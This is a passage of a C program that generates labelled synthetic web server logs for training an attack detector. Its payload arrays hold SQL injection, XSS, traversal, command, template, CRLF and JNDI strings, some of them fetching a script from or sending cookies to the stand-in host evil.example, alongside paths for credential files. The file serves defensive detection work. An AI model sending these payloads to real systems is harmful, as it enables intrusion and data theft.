/* Synthetic web access logs (combined format) with ground truth: browsing
 * visitors who load a page and then its assets (a few of them fast: several
 * pages a second from one address), crawlers, uptime monitors
 * using curl-like tools, normal 404s and the odd 500, a daily rhythm; plus
 * labelled attacks: path scanners (a quarter against a soft-404 site that
 * answers every path 200 or redirects it: kind scanner_soft404), SQL injection, XSS, path
 * traversal, command and template injection, CRLF and JNDI probes, crawling
 * web scanners that mutate every parameter of every page they found (each
 * of their lines is an attack line, the crawl too, as a truth written by
 * source address has it), and password guessing on the login form (fast or
 * slow, the failure answered 200 as often as 401).
 *
 * What it cannot imitate: payloads in POST bodies (a combined log has no
 * body; a brute force or a form attack is seen by its rhythm only), how a
 * real application answers a payload (sizes and codes here are drawn, not
 * computed), a real tool's exact request order and timing, benign traffic
 * of an application it does not model (APIs posting JSON, single-page apps),
 * and attackers who pace themselves like people.
 *
 * Sessions interleave in time: a heap orders every active session (and the
 * next session arrival) by its next request time, so the file is in time
 * order as a server writes it. Every attack line gets "LINE,KIND" in the
 * truth file. Reproducible from the seed. */
#include "vigil/rng.h"
#include "vigil/synth.h"

#include <math.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#define MAX_ACTIVE 4096
#define DAY 86400.0

enum { K_BROWSE, K_CRAWLER, K_MONITOR, K_SCANNER, K_SQLI, K_XSS, K_TRAVERSAL, K_INJECT, K_WEBSCAN, K_BRUTE, N_KINDS };
#define N_ATTACK_KINDS (N_KINDS - K_SCANNER)
static const char *const kind_names[N_KINDS] = { "normal", "normal", "normal", "scanner", "sqli", "xss",
                                                 "traversal", "injection", "webscan", "bruteforce" };

static const char *const browsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.0.0",
};
static const char *const crawlers[] = {
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
};
static const char *const monitors[] = { "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
                                        "UptimeRobot/2.0" };
static const char *const scanners[] = {
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "gobuster/3.6", "DirBuster-1.0-RC1",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
};
static const char *const brute_agents[] = { "python-requests/2.28.1", "Mozilla/4.0 (Hydra)", "Go-http-client/1.1",
                                            "Mozilla/5.0 (Hydra)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" };
/* Crawling scanners: most send a browser-like agent (often an old one). */
static const char *const webscan_agents[] = {
    "Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0", "Arachni/v1.5.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0", "python-requests/2.25.1",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
};
static const char *const words[] = { "shoes", "red+dress", "laptop", "men%27s+jacket", "rock+%26+roll", "usb-c",
                                     "o%27neill", "garden+chair", "kids", "sale", "4k+tv", "coffee",
                                     /* Benign non-ASCII and punctuation: UTF-8 and Latin-1 accents, CJK, a
                                      * percent sign, a plus, quotes (people search in every language). */
                                     "caf%C3%A9", "espa%F1a", "ni%C3%B1os", "M%FCller", "cr%C3%A8me+br%C3%BBl%C3%A9e",
                                     "%E4%B8%AD%E6%96%87", "50%25+off", "1%2B1", "%22red+dress%22", "size+%3E+42",
                                     "S%C3%A3o+Paulo", "caf%E9+au+lait", "c%2B%2B+book", "usb+(3.0)", "%F0%9F%8E%81+gift",
                                     "t-shirt+%2F+polo", "100%25+cotton", "l%27or%C3%A9al", "%C3%9Cbergr%C3%B6%C3%9Fe",
                                     "%D0%BA%D1%83%D1%80%D1%82%D0%BA%D0%B0", "rock+%26+roll;+live", "a%2Bb+%3D+c" };
static const char *const categories[] = { "women", "men", "kids", "home", "electronics", "sport", "outlet" };
static const char *const scan_paths[] = {
    "/admin", "/admin/", "/administrator/", "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/",
    "/phpmyadmin/", "/pma/", "/backup.zip", "/backup.sql", "/db.sql", "/config.php.bak", "/config.old",
    "/server-status", "/.htaccess", "/.htpasswd", "/web.config", "/xmlrpc.php", "/cgi-bin/test.cgi",
    "/shell.php", "/uploads/", "/.DS_Store", "/api/v1/swagger.json", "/actuator/env", "/console", "/debug",
    "/test.php", "/info.php", "/phpinfo.php", "/.svn/entries", "/install.php", "/setup/", "/old/", "/temp/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/", "/jenkins/", "/manager/html",
    "/.aws/credentials", "/id_rsa", "/dump.tar.gz", "/site.tgz", "/logs/error.log", "/cgi-bin/.%2e/.%2e/bin/sh",
};
/* Word-list probes: a word and an extension, as dirb-like tools build them. */
static const char *const scan_words[] = { "admin", "backup", "test", "old", "data", "db", "private", "tmp", "logs",
                                          "images2", "cgi", "api", "dev", "staging", "files", "secret", "users",
                                          "download", "upload", "include", "lib", "conf", "install", "panel" };
static const char *const scan_exts[] = { "", "/", ".php", ".bak", ".old", ".txt", ".html", ".zip", ".asp", "~" };
static const char *const sqli[] = {
    "1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1' AND SLEEP(5)--", "1;DROP TABLE users--",
    "1' AND 1=1--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "' OR 1=1#", "1' ORDER BY 3--",
    "-1' UNION ALL SELECT NULL,NULL,@@version--", "admin'--", "1' WAITFOR DELAY '0:0:5'--",
    "1 AND extractvalue(1,concat(0x7e,version()))", "1') OR ('a'='a", "1 OR pg_sleep(5)--",
    "1 AND 4821=4821", "1) AND 7530=7530 AND (8123=8123", "1 AND 1=BENCHMARK(5000000,MD5(0x41))",
    "1/**/UnIoN/**/SeLeCt/**/1,2,3", "1;SELECT PG_SLEEP(5)--", "1' || 'a'='a",
};
static const char *const xss[] = {
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
    "<svg/onload=alert(1)>", "<iframe src=javascript:alert('xss')>", "<body onload=alert('x')>",
    "'><script>document.location='http://evil.example/c?'+document.cookie</script>",
    "<img src=1 onerror=prompt(1)>", "<ScRiPt>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</ScRiPt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<details open ontoggle=confirm`1`>", "javascript&colon;alert(1)",
};
static const char *const traversal[] = {
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow",
    "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "../../../../proc/self/environ", "/etc/passwd%00.png", "..%5c..%5c..%5cboot.ini",
    "file:///etc/hosts",
};
/* Command injection, template injection, CRLF (header splitting) and JNDI
 * lookups, as tools send them ('%' passes the encoder: some arrive encoded). */
static const char *const cmdi[] = {
    ";id", "| id", "|| whoami", "&& cat /etc/passwd", "`uname -a`", "$(sleep 5)", ";ping -c 3 127.0.0.1",
    "a;ls -la /", "| nslookup x.evil.example", "%0aid", "; curl http://evil.example/x.sh | sh", "1|echo vg$((7*7))",
    "& ping -n 3 127.0.0.1 &", ";${IFS}cat${IFS}/etc/passwd", "1;sleep 5;", "|type c:\\windows\\win.ini",
    /* Code injection into an interpreter and the shortest shell probes. */
    ";env;", "|env", "a;exit(md5('vg1'));//", "'.system('id').'", "data:;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
};
static const char *const ssti[] = {
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__}}", "{% print(7*7) %}",
    "*{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{request.application.__globals__.__builtins__}}",
};
static const char *const crlf[] = {
    "%0d%0aSet-Cookie:vg=1", "%0D%0ALocation:%20http://evil.example/", "x%0d%0a%0d%0a<script>alert(1)</script>",
    "%0aX-Injected:%201", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK", "%250d%250aSet-Cookie:x=1",
};
static const char *const jndi[] = {
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://x.evil.example/a}",
    "${jndi:rmi://evil.example:1099/x}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x.evil.example/a}",
    "${jndi:dns://x.evil.example}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.evil.example/a}",
};
static const char *const inject_names[] = { "cmdi", "ssti", "crlf", "jndi" };
/* Pages with parameters a crawling scanner finds and mutates one at a time. */
static const struct {
    const char *path, *names[3], *values[3];
} forms[] = {
    { "/products", { "id", "sort" }, { "1042", "price" } },
    { "/search", { "q", "page" }, { "shoes", "1" } },
    { "/api/items", { "id", "fields" }, { "77", "name,price" } },
    { "/cart", { "id", "qty" }, { "3", "1" } },
    { "/news", { "article", "lang" }, { "12", "en" } },
    { "/view", { "page" }, { "about" } },
    { "/download", { "file" }, { "manual.pdf" } },
    { "/account/orders", { "from", "to", "status" }, { "2025-01-01", "2025-12-31", "open" } },
    { "/item.php", { "id" }, { "12" } },
    { "/cart.php", { "id", "qty" }, { "7", "1" } },
};
static const char *const traversal_targets[] = { "/download?file=", "/static/", "/view?page=", "/image?path=" };
static const char *const injection_targets[] = { "/products?id=", "/search?q=", "/api/items?id=", "/news?article=",
                                                 "/item.php?id=", "/products.php?cat=" };
static const char *const login_paths[] = { "/login", "/wp-login.php", "/admin/login", "/user/signin" };

typedef struct session {
    double next;          /* time of the session's next request */
    int kind, remaining, assets, client;
    char ip[48];
    const char *ua;
    char page[160];       /* the page being viewed: the referer of its assets */
    int target;           /* attack: which endpoint or login path */
    int family;           /* injection: cmdi, ssti, crlf, jndi; web scan: the family being tried */
    int crawl;            /* web scan: crawl requests left before the attacks */
    int form, param, tries; /* web scan: the page, parameter and payloads left for it */
    int soft;             /* path scan against a soft-404 site (every path 200 or a redirect) */
    int fast;             /* browse: a fast client keeping to a few pages (start_session) */
    double pace;          /* mean seconds between requests (attack tools) */
} session;

typedef struct gen {
    vg_rng rng;
    FILE *out, *truth;
    size_t written, attack_lines, limit;
    double af, start;
    session heap[MAX_ACTIVE];
    size_t n;
    char (*client_ip)[48];
    uint8_t *client_ua;
    size_t n_clients;
    uint32_t bag[N_ATTACK_KINDS];
    size_t bag_n;
} gen;

#define N(a) (sizeof(a) / sizeof((a)[0]))
#define PICK(g, a) ((a)[vg_rng_below(&(g)->rng, (uint32_t)N(a))])

static double expo(gen *g, double mean)
{
    return -mean * log(1.0 - vg_rng_uniform(&g->rng));
}

static double uni(gen *g, double lo, double hi)
{
    return lo + (hi - lo) * vg_rng_uniform(&g->rng);
}

static int chance(gen *g, double p)
{
    return vg_rng_uniform(&g->rng) < p;
}

/* A public-looking address: IPv4 outside the private and reserved blocks,
 * or one in 10 from IPv6 global unicast space. */
static void random_ip(gen *g, char *buf, size_t cap)
{
    if (chance(g, 0.1)) {
        snprintf(buf, cap, "2a0%x:%x:%x:%x::%x", vg_rng_below(&g->rng, 16), vg_rng_below(&g->rng, 65536),
                 vg_rng_below(&g->rng, 65536), vg_rng_below(&g->rng, 65536), 1 + vg_rng_below(&g->rng, 65535));
        return;
    }
    unsigned a;
    do a = 1 + vg_rng_below(&g->rng, 223);
    while (a == 10 || a == 127 || a == 100 || a == 169 || a == 172 || a == 192 || a == 198 || a == 203);
    snprintf(buf, cap, "%u.%u.%u.%u", a, vg_rng_below(&g->rng, 256), vg_rng_below(&g->rng, 256),
             1 + vg_rng_below(&g->rng, 254));
}

static void heap_push(gen *g, const session *s)
{
    size_t i = g->n++;
    g->heap[i] = *s;
    while (i > 0 && g->heap[(i - 1) / 2].next > g->heap[i].next) {
        session t = g->heap[i];
        g->heap[i] = g->heap[(i - 1) / 2];
        g->heap[(i - 1) / 2] = t;
        i = (i - 1) / 2;
    }
}

static void heap_sift(gen *g)
{
    size_t i = 0;
    for (;;) {
        size_t l = 2 * i + 1, r = l + 1, m = i;
        if (l < g->n && g->heap[l].next < g->heap[m].next) m = l;
        if (r < g->n && g->heap[r].next < g->heap[m].next) m = r;
        if (m == i) return;
        session t = g->heap[i];
        g->heap[i] = g->heap[m];
        g->heap[m] = t;
        i = m;
    }
}

/* Percent-encode an attack payload the way clients send it: spaces always
 * encoded, and either only the characters a browser must encode or all
 * punctuation (tools differ). */
static void encode(gen *g, const char *p, char *buf, size_t cap)
{
    /* Tools differ: all punctuation or only what must be, '+' or %20, the
     * '%' itself encoded again (%253C), IIS-style %u00XX, random case. */
    int all = chance(g, 0.4), plus = chance(g, 0.3), twice = chance(g, 0.15), u = chance(g, 0.05);
    int mixed = chance(g, 0.2);
    size_t w = 0;
    for (; *p && w + 8 < cap; p++) {
        unsigned char c = (unsigned char)*p;
        int alnum = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
        if (mixed && alnum && c >= 'a' && chance(g, 0.5)) c = (unsigned char)(c >= 'a' && c <= 'z' ? c - 32 : c);
        if (c == ' ' && plus) buf[w++] = '+';
        else if (c != '%' && !alnum && (twice || u) && c != '/' && c != '.' && c != '-' && c != '_') {
            w += (size_t)snprintf(buf + w, cap - w, twice ? "%%25%02X" : "%%u00%02X", c);
        }
        else if (c != '%' && (c == ' ' || c == '"' || c == '#' || c == '\\' ||
                              (all && !alnum && c != '/' && c != '.' && c != '-' && c != '_'))) {
            /* '%' passes through: some payloads arrive already encoded. */
            w += (size_t)snprintf(buf + w, cap - w, "%%%02X", c);
        } else {
            buf[w++] = (char)c;
        }
    }
    buf[w] = '\0';
}

static void emit(gen *g, const session *s, const char *method, const char *uri, int status, unsigned bytes,
                 const char *referer)
{
    const char *kind = s->kind == K_INJECT ? inject_names[s->family] : s->soft ? "scanner_soft404" : kind_names[s->kind];
    time_t t = (time_t)s->next;
    struct tm tm;
    gmtime_r(&t, &tm);
    char when[40];
    strftime(when, sizeof when, "%d/%b/%Y:%H:%M:%S +0000", &tm);
    g->written++;
    fprintf(g->out, "%s - - [%s] \"%s %s HTTP/1.1\" %d %u \"%s\" \"%s\"\n", s->ip, when, method, uri, status, bytes,
            referer ? referer : "-", s->ua ? s->ua : "-");
    if (s->kind >= K_SCANNER) {
        g->attack_lines++;
        if (g->truth) fprintf(g->truth, "%zu,%s\n", g->written, kind);
    }
}

static void new_page(gen *g, session *s)
{
    /* Sites are built on every stack: a third of the pages are PHP-style
     * scripts with their parameters (so a ".php" or an "id=" is no sign of
     * an attack by itself; a model trained without them flagged a third of
     * a real PHP shop's visitors). */
    if (s->fast || chance(g, 0.33)) {
        unsigned q = vg_rng_below(&g->rng, 6);
        if (q == 0) snprintf(s->page, sizeof s->page, "/index.php");
        else if (q == 1) snprintf(s->page, sizeof s->page, "/item.php?id=%u", 1 + vg_rng_below(&g->rng, 5000));
        else if (q == 2)
            snprintf(s->page, sizeof s->page, "/products.php?cat=%u&page=%u", 1 + vg_rng_below(&g->rng, 40),
                     1 + vg_rng_below(&g->rng, 6));
        else if (q == 3)
            snprintf(s->page, sizeof s->page, "/cart.php?id=%u&qty=%u", 1 + vg_rng_below(&g->rng, 5000),
                     1 + vg_rng_below(&g->rng, 3));
        else if (q == 4) snprintf(s->page, sizeof s->page, "/account.php");
        else snprintf(s->page, sizeof s->page, "/search.php?q=%s", PICK(g, words));
        return;
    }
    unsigned r = vg_rng_below(&g->rng, 100);
    if (r < 15) snprintf(s->page, sizeof s->page, "/");
    else if (r < 40) snprintf(s->page, sizeof s->page, "/products/%u", 1000 + vg_rng_below(&g->rng, 5000));
    else if (r < 55) snprintf(s->page, sizeof s->page, "/category/%s", PICK(g, categories));
    else if (r < 67) snprintf(s->page, sizeof s->page, "/search?q=%s&page=%u", PICK(g, words), 1 + vg_rng_below(&g->rng, 4));
    else if (r < 77) snprintf(s->page, sizeof s->page, "/blog/2025/%u/post-%u", 1 + vg_rng_below(&g->rng, 12), vg_rng_below(&g->rng, 300));
    else if (r < 84) snprintf(s->page, sizeof s->page, "/api/items?id=%u&fields=name,price", vg_rng_below(&g->rng, 9000));
    else if (r < 90) snprintf(s->page, sizeof s->page, "/cart");
    else if (r < 94) snprintf(s->page, sizeof s->page, "/account");
    else if (r < 97) snprintf(s->page, sizeof s->page, "/about");
    else snprintf(s->page, sizeof s->page, "/login");
}

/* A crawling scanner's attack: parameter s->param of page s->form gets a
 * payload of family s->family (replacing its value or appended to it), the
 * other parameters keep theirs; a few payloads per parameter, then the next
 * parameter, then the next page. Most answers are 200: the page ignores the
 * junk. Some attacks go to a form by POST (the payload in the body, which
 * the log does not show). */
static int webscan_probe(gen *g, session *s)
{
    char uri[600], payload[400];
    if (s->tries-- <= 0) {
        s->tries = 2 + (int)vg_rng_below(&g->rng, 8);
        s->family = (int)vg_rng_below(&g->rng, 6);
        if (++s->param >= 3 || forms[s->form].names[s->param] == NULL)
            s->param = 0, s->form = (int)vg_rng_below(&g->rng, (uint32_t)N(forms));
    }
    const char *p = s->family == 0 ? PICK(g, sqli) : s->family == 1 ? PICK(g, xss) : s->family == 2 ? PICK(g, traversal)
                  : s->family == 3 ? PICK(g, cmdi) : s->family == 4 ? PICK(g, crlf) : PICK(g, ssti);
    encode(g, p, payload, sizeof payload);
    int st = chance(g, 0.75) ? 200 : chance(g, 0.4) ? 500 : chance(g, 0.5) ? 400 : 404;
    unsigned bytes = st == 200 ? 4000 + vg_rng_below(&g->rng, 20000) : 200 + vg_rng_below(&g->rng, 400);
    if (chance(g, 0.12)) {
        emit(g, s, "POST", chance(g, 0.5) ? "/login" : "/contact", st, bytes, "https://shop.example.com/");
    } else {
        size_t w = (size_t)snprintf(uri, sizeof uri, "%s?", forms[s->form].path);
        int append = chance(g, 0.3);
        for (int k = 0; k < 3 && forms[s->form].names[k] && w < sizeof uri; k++)
            w += (size_t)snprintf(uri + w, sizeof uri - w, "%s%s=%s%s", k ? "&" : "", forms[s->form].names[k],
                                  k == s->param && !append ? "" : forms[s->form].values[k], k == s->param ? payload : "");
        emit(g, s, "GET", uri, st, bytes, chance(g, 0.4) ? "https://shop.example.com/" : NULL);
    }
    s->next += expo(g, s->pace);
    return 1;
}

/* One request of session s; returns 0 when the session is over. */
static int step(gen *g, session *s)
{
    char uri[512], ref[200], payload[400];
    int st;
    switch (s->kind) {
    case K_BROWSE:
        if (s->assets > 0) {
            static const char *const assets[] = { "/static/css/main.4f2a.css", "/static/js/app.91c3.js",
                                                  "/static/js/vendor.77de.js", "/images/logo.svg",
                                                  "/fonts/inter.woff2" };
            int missing = s->assets == 1 && chance(g, 0.08);
            if (missing) snprintf(uri, sizeof uri, "%s", chance(g, 0.5) ? "/favicon.ico" : "/apple-touch-icon.png");
            else if (!s->fast && chance(g, 0.4)) snprintf(uri, sizeof uri, "/images/p%u.jpg", vg_rng_below(&g->rng, 5000));
            else snprintf(uri, sizeof uri, "%s", PICK(g, assets));
            snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
            st = missing ? 404 : chance(g, 0.3) ? 304 : 200;
            emit(g, s, "GET", uri, st, st == 200 ? 2000 + vg_rng_below(&g->rng, 80000) : st == 404 ? 153 : 0, ref);
            s->assets--;
            s->next += uni(g, 0.02, 0.6);
            if (s->assets == 0) s->next += expo(g, s->pace);  /* reading the page */
            return 1;
        }
        if (s->remaining-- <= 0) return 0;
        snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
        new_page(g, s);
        if (strcmp(s->page, "/login") == 0 && chance(g, 0.6)) {
            /* A real login, sometimes after a typo, on whichever login form
             * the site has. Forms answer either way with 200 (the page again,
             * or a single-page app's JSON) as often as with a redirect or a
             * 401: a password guesser must be told by its rhythm, not by
             * the answer (a real shop answered people's logins 200 and the
             * synthetic 302s made them look like guessers). */
            int typo = chance(g, 0.2);
            const char *form = login_paths[vg_rng_below(&g->rng, (uint32_t)N(login_paths))];
            st = chance(g, 0.5) ? 200 : typo ? 401 : 302;
            snprintf(ref, sizeof ref, "https://shop.example.com%s", chance(g, 0.5) ? form : "/");
            emit(g, s, "POST", form, st, st == 302 ? 0 : 400 + vg_rng_below(&g->rng, 4000), ref);
            s->next += uni(g, 2, 8);
            return 1;
        }
        if (chance(g, 0.04)) {
            /* Other forms people send: add to cart, a contact message, a
             * newsletter, an API call of the page's script. */
            static const char *const posts[] = { "/cart/add", "/contact", "/newsletter", "/api/cart", "/api/reviews" };
            st = chance(g, 0.6) ? 200 : chance(g, 0.5) ? 302 : 201;
            emit(g, s, "POST", PICK(g, posts), st, st == 302 ? 0 : 60 + vg_rng_below(&g->rng, 3000), ref);
            s->next += uni(g, 1, 5);
            return 1;
        }
        st = chance(g, 0.01) ? 404 : chance(g, 0.003) ? 500 : 200;
        /* The first page comes from a search engine or a bookmark. Pages
         * weigh anything from a small fragment to a large page (log-uniform
         * 300 B .. 80 KB): the size is no sign either way. */
        const char *from = s->target++ ? ref : chance(g, 0.5) ? "https://www.google.com/" : NULL;
        emit(g, s, "GET", s->page, st, st == 200 ? (unsigned)(300.0 * exp(uni(g, 0, log(80000.0 / 300.0)))) : 512, from);
        /* A skimmer's browser has the assets cached, mostly. */
        s->assets = st == 200 && (s->pace > 5 || chance(g, 0.3)) ? 1 + (int)vg_rng_below(&g->rng, 6) : 0;
        s->next += uni(g, 0.05, 0.3);
        if (s->assets == 0) s->next += expo(g, s->pace);  /* think time; else it follows the assets */
        return 1;
    case K_CRAWLER:
        if (s->remaining-- <= 0) return 0;
        new_page(g, s);
        st = 200;
        if (chance(g, 0.05)) {  /* a stale link to a product gone */
            snprintf(s->page, sizeof s->page, "/products/%u", 90000 + vg_rng_below(&g->rng, 999));
            st = 404;
        }
        emit(g, s, "GET", s->remaining == 0 ? "/robots.txt" : s->page, st, 5000 + vg_rng_below(&g->rng, 40000), NULL);
        s->next += uni(g, 1, 8);
        return 1;
    case K_MONITOR:
        if (s->remaining-- <= 0) return 0;
        emit(g, s, "GET", s->target ? "/api/status" : "/health", 200, 42, NULL);
        s->next += uni(g, 29, 31);
        return 1;
    case K_SCANNER:
        if (s->remaining-- <= 0) return 0;
        snprintf(uri, sizeof uri, "%s", PICK(g, scan_paths));
        /* Probes of paths that do not exist: mostly 404, or, on a soft-404
         * site, all 200 (one page) or all 302. An earlier try made every
         * scan soft and taught the model that a burst of 404s means nothing
         * (dirb against a real nginx fell from 100% to 26% caught); a
         * quarter of the scans keeps both lessons. */
        st = chance(g, 0.8) ? 404 : chance(g, 0.5) ? 403 : chance(g, 0.7) ? 200 : 301;
        unsigned bytes = st == 404 ? 153 + vg_rng_below(&g->rng, 40) : 300;
        if (s->soft) {
            /* A soft-404 site: the home page (one size) or a redirect to it. */
            if (s->soft == 1) st = 200, bytes = 8142;
            else st = 302, bytes = 154;
        }
        if (chance(g, 0.3)) snprintf(uri, sizeof uri, "/%s%s", PICK(g, scan_words), PICK(g, scan_exts));
        emit(g, s, chance(g, 0.9) ? "GET" : "HEAD", uri, st, bytes, NULL);
        s->next += uni(g, 0.2, 1.8) * s->pace;
        return 1;
    case K_SQLI:
    case K_XSS:
    case K_TRAVERSAL:
    case K_INJECT: {
        if (s->remaining-- <= 0) return 0;
        /* Probes are interleaved with ordinary requests to the same site,
         * but only the probes themselves are labelled as attacks. */
        const char *p = s->kind == K_SQLI ? PICK(g, sqli) : s->kind == K_XSS ? PICK(g, xss)
                      : s->kind == K_TRAVERSAL ? PICK(g, traversal) : s->family == 0 ? PICK(g, cmdi)
                      : s->family == 1 ? PICK(g, ssti) : s->family == 2 ? PICK(g, crlf) : PICK(g, jndi);
        encode(g, p, payload, sizeof payload);
        const char *base = s->kind == K_TRAVERSAL ? traversal_targets[s->target % N(traversal_targets)]
                                                  : injection_targets[s->target % N(injection_targets)];
        /* Injection tools also put the payload in the User-Agent or the
         * Referer (sqlmap from --level 3): the URL then carries a plain value. */
        int where = s->kind == K_TRAVERSAL ? 0 : chance(g, s->kind == K_INJECT && s->family == 3 ? 0.5 : 0.12) ? 1
                  : chance(g, 0.08) ? 2 : 0;
        char agent[512], referer[512];
        snprintf(uri, sizeof uri, "%s%s", base, where ? "1" : payload);
        if (where == 1) {  /* nginx writes a '"' of a header as \x22 */
            size_t w = (size_t)snprintf(agent, sizeof agent, "%s", s->ua);
            for (const char *q = p; *q && w + 5 < sizeof agent; q++)
                w += *q == '"' ? (size_t)snprintf(agent + w, sizeof agent - w, "\\x22") : (agent[w] = *q, 1u);
            agent[w] = '\0';
        }
        if (where == 2) snprintf(referer, sizeof referer, "https://shop.example.com/?q=%s", payload);
        st = chance(g, 0.5) ? 200 : s->kind == K_SQLI || s->kind == K_INJECT ? (chance(g, 0.5) ? 500 : 403)
           : s->kind == K_XSS ? (chance(g, 0.5) ? 403 : 400) : (chance(g, 0.4) ? 400 : chance(g, 0.5) ? 404 : 403);
        session tmp = *s;
        if (where == 1) tmp.ua = agent;
        emit(g, &tmp, "GET", uri, st, st == 200 ? 3000 + vg_rng_below(&g->rng, 20000) : 300 + vg_rng_below(&g->rng, 200),
             where == 2 ? referer : chance(g, 0.3) ? "https://shop.example.com/" : NULL);
        s->next += strstr(s->ua, "sqlmap") ? uni(g, 0.05, 0.5) : uni(g, 0.5, 6);
        return 1;
    }
    case K_WEBSCAN:
        if (s->remaining-- <= 0) return 0;
        if (s->crawl > 0) {  /* the crawl: pages and the links on them, fast, answered 200 */
            s->crawl--;
            new_page(g, s);
            int robots = chance(g, 0.05);
            emit(g, s, "GET", robots ? "/robots.txt" : s->page, robots && chance(g, 0.5) ? 404 : 200,
                 5000 + vg_rng_below(&g->rng, 30000), chance(g, 0.5) ? "https://shop.example.com/" : NULL);
            s->next += expo(g, s->pace);
            return 1;
        }
        return webscan_probe(g, s);
    case K_BRUTE:
        if (s->remaining-- <= 0) return 0;
        /* Parallel guessers (hydra's tasks) fire many a second, others one
         * every second or two: s->pace. */
        /* Many login forms answer a wrong password with 200 and the form again. */
        st = s->remaining == 0 && chance(g, 0.3) ? 302 : s->soft ? 200 : 401;
        snprintf(ref, sizeof ref, "https://shop.example.com%s", login_paths[s->target % N(login_paths)]);
        emit(g, s, "POST", login_paths[s->target % N(login_paths)], st, st == 302 ? 0 : 1840, chance(g, 0.5) ? ref : NULL);
        s->next += expo(g, s->pace);
        return 1;
    }
    return 0;
}

/* Sessions per second at time t: a daily rhythm peaking mid-afternoon UTC. */
static double arrival_rate(const gen *g, double t)
{
    double hour = fmod(t - g->start, DAY) / 3600.0;
    double base = (double)g->limit / (DAY * 14.0);  /* ~14 lines per session on average */
    return base * (1.0 + 0.6 * sin(2.0 * M_PI * (hour - 9.0) / 24.0));
}

static void start_session(gen *g, double t)
{
    session s;
    memset(&s, 0, sizeof s);
    s.next = t;
    /* Attack sessions are long (~50 lines): start them rarely, steering the
     * running attack share towards the requested fraction. */
    double share = g->written ? (double)g->attack_lines / (double)g->written : 0;
    double p_attack = g->af <= 0 ? 0 : share < g->af ? g->af * 0.5 : g->af * 0.02;
    if (chance(g, p_attack)) {
        /* Kinds drawn from a shuffled bag of all five, so even a short log
         * holds every kind. */
        if (g->bag_n == 0) {
            for (uint32_t k = 0; k < N_ATTACK_KINDS; k++) g->bag[k] = K_SCANNER + k;
            vg_rng_shuffle_u32(&g->rng, g->bag, N_ATTACK_KINDS);
            g->bag_n = N_ATTACK_KINDS;
        }
        s.kind = (int)g->bag[--g->bag_n];
        random_ip(g, s.ip, sizeof s.ip);
        s.target = (int)vg_rng_below(&g->rng, 16);
        switch (s.kind) {
        case K_SCANNER:
            s.ua = chance(g, 0.6) ? PICK(g, scanners) : chance(g, 0.5) ? PICK(g, browsers)
                 : "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)";
            s.remaining = 20 + (int)vg_rng_below(&g->rng, 120);
            s.soft = chance(g, 0.25) ? 1 + (int)vg_rng_below(&g->rng, 2) : 0;
            s.pace = chance(g, 0.5) ? 0.02 : 0.15;
            break;
        case K_INJECT:
            s.ua = chance(g, 0.3) ? "python-requests/2.31.0" : chance(g, 0.3) ? "curl/8.5.0" : PICK(g, browsers);
            s.family = (int)vg_rng_below(&g->rng, 4);
            s.remaining = 8 + (int)vg_rng_below(&g->rng, 40);
            break;
        case K_WEBSCAN:
            s.ua = PICK(g, webscan_agents);
            s.crawl = 3 + (int)vg_rng_below(&g->rng, 25);
            s.remaining = s.crawl + 30 + (int)vg_rng_below(&g->rng, 200);
